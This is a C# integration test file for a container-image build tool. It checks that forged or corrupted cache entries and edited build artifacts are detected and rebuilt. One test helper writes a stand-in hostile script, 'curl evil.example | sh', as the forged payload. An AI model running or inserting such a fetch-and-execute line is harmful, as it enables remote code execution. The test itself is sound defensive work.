using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using HardenImage.Build;
using HardenImage.Common;
using HardenImage.Contracts;
using HardenImage.Oci;

namespace HardenImage.Tests.Build;

/// <summary>
/// A poisoned cache cannot change an image (threat T): HARDEN_CACHE may be shared or restored from another CI run,
/// and artifacts/ may be restored or edited. Forged unpacked trees, forged content blobs, a corrupt layer blob and
/// an edited build.json are each detected, reported and rebuilt, and the image digests stay those of a clean build.
/// </summary>
[Trait("Category", "Integration")]
public sealed class CachePoisoningTests : IAsyncLifetime
{
    private readonly ImageSetWorkspace _w = new();
    private BuildManifest _clean = null!;

    public async Task InitializeAsync()
    {
        await _w.LockAsync();
        _clean = (await _w.BuildAsync()).Manifest;
    }

    public Task DisposeAsync()
    {
        _w.Dispose();
        return Task.CompletedTask;
    }

    private string ToolDebSha() => LockFile.Load(_w.LockPath).Image("tool")!.Architectures.Single(a => a.Architecture == "amd64")
        .Packages.Single(p => p.Name == "fake-tool").Sha256;

    private string ContentPath(string sha) => Path.Combine(_w.Cache, "content", "sha256", sha);

    private static string Sha(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));

    /// <summary>
    /// What a cache writer can do without the key: store a content blob, a file list naming it for
    /// /usr/bin/fake-tool, and a pointer to that list sealed with <paramref name="sealWith"/>.
    /// </summary>
    private void ForgeUnpackedTree(CacheKey sealWith)
    {
        var debSha = ToolDebSha();
        var pointer = Path.Combine(_w.Cache, "unpacked-v3", debSha);
        var manifestSha = File.ReadAllText(pointer).Split(' ')[0];
        var evil = "#!/bin/sh\ncurl evil.example | sh\n"u8.ToArray();
        File.WriteAllBytes(ContentPath(Sha(evil)), evil);
        var manifest = JsonNode.Parse(File.ReadAllBytes(ContentPath(manifestSha)))!;
        var entry = manifest["entries"]!.AsArray().Single(e => (string?)e!["path"] == "usr/bin/fake-tool")!;
        entry["sha256"] = Sha(evil);
        entry["size"] = evil.Length;
        var forged = Encoding.UTF8.GetBytes(manifest.ToJsonString());
        File.WriteAllBytes(ContentPath(Sha(forged)), forged);
        File.WriteAllText(pointer, $"{Sha(forged)} {sealWith.Seal("unpacked-tree-v3", debSha, Sha(forged))}\n");
    }

    private string ToolIndex(BuildManifest m) => m.Image("tool")!.Index;

    private void AssertLayoutVerifies()
    {
        var reader = new OciLayoutReader(OciLayout.Open(Path.Combine(_w.Artifacts, "oci")));
        foreach (var tag in new[] { "base", "tool" }) Assert.Empty(reader.Verify(tag));
    }

    [Fact]
    public async Task ForgedUnpackedTreeManifestAndBlob_InCache_IsDetected_Rebuilt_AndTheDigestIsUnchanged()
    {
        ForgeUnpackedTree(CacheKey.FromSecret(new string('x', 64), "attacker"));
        var rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains("unpacked tree of fake-tool 2.0-1 (amd64)") && r.Contains("is not sealed with this cache key"));
        AssertLayoutVerifies();

        // A pointer in the old unsealed form is refused the same way.
        var pointer = Path.Combine(_w.Cache, "unpacked-v3", ToolDebSha());
        File.WriteAllText(pointer, File.ReadAllText(pointer).Split(' ')[0] + "\n");
        rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains("is not a sealed pointer"));
        Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
    }

    [Fact]
    public async Task ForgedUnpackedTree_SealedWithTheRealKey_WouldChangeTheImage_SoTheSealIsWhatStopsIt()
    {
        // The control for the test above: the same forgery, sealed with the key, does reach the image.
        ForgeUnpackedTree(_w.CacheKey);
        var poisoned = await _w.BuildAsync(null, null, force: true);
        Assert.NotEqual(ToolIndex(_clean), ToolIndex(poisoned.Manifest));
        Assert.Empty(poisoned.CacheRepairs);
    }

    [Fact]
    public async Task TornFilesOfSeveralPackages_AfterACrash_AreAllRepaired_InOneBuild()
    {
        // Unpacked files are written without an fsync: a power loss can leave files of several packages empty under
        // intact, sealed file lists. One build must repair them all (a pass per package met), not just the first.
        var torn = new List<string>();
        foreach (var pointer in Directory.GetFiles(Path.Combine(_w.Cache, "unpacked-v3")))
        {
            var manifest = JsonNode.Parse(File.ReadAllBytes(ContentPath(File.ReadAllText(pointer).Split(' ')[0])))!;
            var file = manifest["entries"]!.AsArray().FirstOrDefault(e => (string?)e!["sha256"] != null && (long)e!["size"]! > 0);
            if (file == null) continue;
            var sha = (string)file["sha256"]!;
            if (torn.Contains(sha)) continue;
            File.WriteAllBytes(ContentPath(sha), []);
            torn.Add(sha);
        }
        Assert.True(torn.Count >= 2, $"only {torn.Count} package(s) to tear");

        var rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(_clean.Images.Select(i => (i.Name, i.Index)), rebuilt.Manifest.Images.Select(i => (i.Name, i.Index)));
        Assert.True(rebuilt.CacheRepairs.Count >= 2, string.Join("\n", rebuilt.CacheRepairs));
        AssertLayoutVerifies();
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task ForgedContentBlob_UnderItsOwnName_IsEvicted_AndRebuilt(bool sameLength)
    {
        var manifestSha = File.ReadAllText(Path.Combine(_w.Cache, "unpacked-v3", ToolDebSha())).Split(' ')[0];
        var manifest = JsonNode.Parse(File.ReadAllBytes(ContentPath(manifestSha)))!;
        var toolSha = (string)manifest["entries"]!.AsArray().Single(e => (string?)e!["path"] == "usr/bin/fake-tool")!["sha256"]!;
        var original = File.ReadAllBytes(ContentPath(toolSha));
        var forged = sameLength ? original.Select(b => (byte)(b ^ 1)).ToArray() : Encoding.ASCII.GetBytes("a longer, different program");
        File.WriteAllBytes(ContentPath(toolSha), forged);

        var rebuilt = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
        // Whichever reader meets it first (the hardening's content check or the layer writer) names the same file.
        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains(toolSha) && (r.Contains("does not match its SHA-256") || (!sameLength && r.Contains("bytes where its package says"))));
        Assert.Equal(original, File.ReadAllBytes(ContentPath(toolSha)));
        AssertLayoutVerifies();
    }

    [Fact]
    public async Task CorruptedLayerBlob_InArtifactsOci_IsNotUpToDate_AndIsWrittenAgain()
    {
        var layer = _clean.Image("tool")!.Architectures.Single(a => a.Architecture == "amd64").Layers[^1];
        var path = Path.Combine(_w.Artifacts, "oci", "blobs", "sha256", Digest.Parse(layer.Digest).Hex);
        var bytes = File.ReadAllBytes(path);
        bytes[bytes.Length / 2] ^= 0x20; // same size: a size check alone would not see it
        File.WriteAllBytes(path, bytes);

        var again = await _w.BuildAsync();
        Assert.False(again.UpToDate);
        Assert.Contains(again.CacheRepairs, r => r.Contains(Digest.Parse(layer.Digest).Hex) && r.Contains("does not match its digest"));
        Assert.Equal(ToolIndex(_clean), ToolIndex(again.Manifest));
        AssertLayoutVerifies();
        Assert.True((await _w.BuildAsync()).UpToDate);
    }

    [Fact]
    public async Task CorruptedConfigBlob_EvenWithForce_IsWrittenAgain()
    {
        var config = _clean.Image("base")!.Architectures.Single(a => a.Architecture == "arm64").Config;
        var path = Path.Combine(_w.Artifacts, "oci", "blobs", "sha256", Digest.Parse(config).Hex);
        File.WriteAllText(path, "{\"config\":{\"User\":\"0:0\"}}");
        var again = await _w.BuildAsync(null, null, force: true);
        Assert.Equal(_clean.Image("base")!.Index, again.Manifest.Image("base")!.Index);
        AssertLayoutVerifies();
    }

    [Fact]
    public async Task EditedBuildJson_PointingAtAnotherImage_IsNotUpToDate()
    {
        // Point "tool" at base's (intact, self-consistent) index in both build.json and index.json.
        var buildJson = Path.Combine(_w.Artifacts, "build.json");
        var node = JsonNode.Parse(File.ReadAllText(buildJson))!;
        var images = node["images"]!.AsArray();
        var baseIndex = (string)images.Single(i => (string?)i!["name"] == "base")!["index"]!;
        images.Single(i => (string?)i!["name"] == "tool")!["index"] = baseIndex;
        File.WriteAllText(buildJson, node.ToJsonString());
        var indexJson = Path.Combine(_w.Artifacts, "oci", "index.json");
        var index = JsonNode.Parse(File.ReadAllText(indexJson))!;
        foreach (var m in index["manifests"]!.AsArray())
            if (((string?)m!["annotations"]?["org.opencontainers.image.ref.name"])?.StartsWith("tool", StringComparison.Ordinal) == true)
                m["digest"] = baseIndex;
        File.WriteAllText(indexJson, index.ToJsonString());

        var again = await _w.BuildAsync();
        Assert.False(again.UpToDate);
        Assert.Contains(again.CacheRepairs, r => r.Contains("the record of image 'tool' is not the one this cache sealed"));
        Assert.Equal(ToolIndex(_clean), ToolIndex(again.Manifest));
        Assert.Equal(ToolIndex(_clean), OciLayout.Open(Path.Combine(_w.Artifacts, "oci")).Resolve("tool")!.Digest);
    }

    [Fact]
    public async Task CacheWrittenWithAnotherKey_IsRebuilt_NotTrusted()
    {
        // A cache restored from another machine or user: every derived entry is re-derived, digests unchanged.
        _w.CacheKey = CacheKey.FromSecret(new string('k', 40), "other machine");
        var again = await _w.BuildAsync();
        Assert.False(again.UpToDate);
        Assert.Equal(_clean.Images.Select(i => i.Index), again.Manifest.Images.Select(i => i.Index));
        Assert.Contains(again.CacheRepairs, r => r.Contains("is not sealed with this cache key"));
        Assert.True((await _w.BuildAsync()).UpToDate);
    }

    [Fact]
    public async Task FifoPlantedInTheCache_DoesNotHangTheBuild_AndIsReplaced()
    {
        var pointer = Path.Combine(_w.Cache, "unpacked-v3", ToolDebSha());
        var manifestSha = File.ReadAllText(pointer).Split(' ')[0];
        File.Delete(pointer);
        HardenImage.Tests.Infrastructure.RequiredService.RunOk("mkfifo", [pointer]);
        File.Delete(ContentPath(manifestSha));
        HardenImage.Tests.Infrastructure.RequiredService.RunOk("mkfifo", [ContentPath(manifestSha)]);
        // Generous bound, not a timing assertion: a FIFO that is opened blocks for ever.
        var rebuilt = await Task.Run(() => _w.BuildAsync(null, null, force: true)).WaitAsync(TimeSpan.FromMinutes(3));
        Assert.Contains(rebuilt.CacheRepairs, r => r.Contains("is not a regular file"));
        Assert.Equal(ToolIndex(_clean), ToolIndex(rebuilt.Manifest));
        Assert.True(ContentStore.IsRegularFile(pointer));
    }
}
